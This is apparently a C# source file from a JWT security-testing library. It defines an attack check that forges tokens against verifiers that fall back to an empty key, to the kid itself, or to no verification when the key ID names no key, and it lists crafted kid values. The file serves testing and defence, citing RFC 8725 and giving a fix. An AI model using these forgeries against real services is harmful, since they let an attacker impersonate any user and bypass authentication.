using System.Text;
using System.Text.Json.Nodes;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// The kid names no key, and the verifier goes on without one: with an empty key, with the kid itself, or without verifying.
/// RFC 8725 3.1; CVE-2026-45363 (an unknown kid gave the key "").
/// </summary>
internal sealed class KidFallback : JwtAttack
{
    public override string Id => "CRY1082";

    public override JwtFamily Family => JwtFamily.KeyIdInjection;

    public override IReadOnlyList<int> Cwe => [287, 636];

    public override IReadOnlyList<string> References => ["RFC 8725 3.1", "ASVS 9.1.3", "CVE-2026-45363"];

    public override string Cause => "goes on without a key when kid names none";

    public override string Why => "a made-up kid is all it takes to become anyone";

    public override string Fix =>
        "refuse when the lookup finds nothing: an IssuerSigningKeyResolver returns [] then, never a default key";

    internal override IReadOnlyList<string> ExplainedBy => ["CRY1020"];

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        var token = attacker.Token;
        var own = AttackerKeys.SignerFor(token.Alg);
        yield return new Forgery(HmacJws.SignWithoutKid(token, []), "no kid, empty key");
        yield return new Forgery(
            own.Sign($"{Header(json => json.Remove("kid"))}.{token.PayloadSegment}"),
            $"no kid, {own.Alg} by the attacker");
        yield return new Forgery(HmacJws.SignUnderKid(token, null, []), "kid null, empty key");
        yield return new Forgery(
            own.Sign($"{Header(json => json["kid"] = null)}.{token.PayloadSegment}"),
            $"kid null, {own.Alg} by the attacker");
        foreach (var kid in new[] { "no-such-key", "", "*", "default", "0", "-1", "null", "undefined" })
        {
            yield return new Forgery(HmacJws.SignUnderKid(token, kid, []), $"kid \"{kid}\", empty key");
            yield return new Forgery(
                HmacJws.SignUnderKid(token, kid, Encoding.UTF8.GetBytes(kid)),
                $"kid \"{kid}\", which is the key");
            yield return new Forgery(
                own.Sign($"{Header(json => json["kid"] = kid)}.{token.PayloadSegment}"),
                $"kid \"{kid}\", {own.Alg} by the attacker");
        }

        // 64 characters: where the stock handler takes the kid for the key, it wants that many
        var longKid = new string('k', 64);
        yield return new Forgery(
            HmacJws.SignUnderKid(token, longKid, Encoding.UTF8.GetBytes(longKid)),
            "kid of 64 characters, which is the key");

        string Header(Action<JsonObject> change) => token.HeaderWith(json =>
        {
            json["alg"] = own.Alg;
            change(json);
        });
    }
}
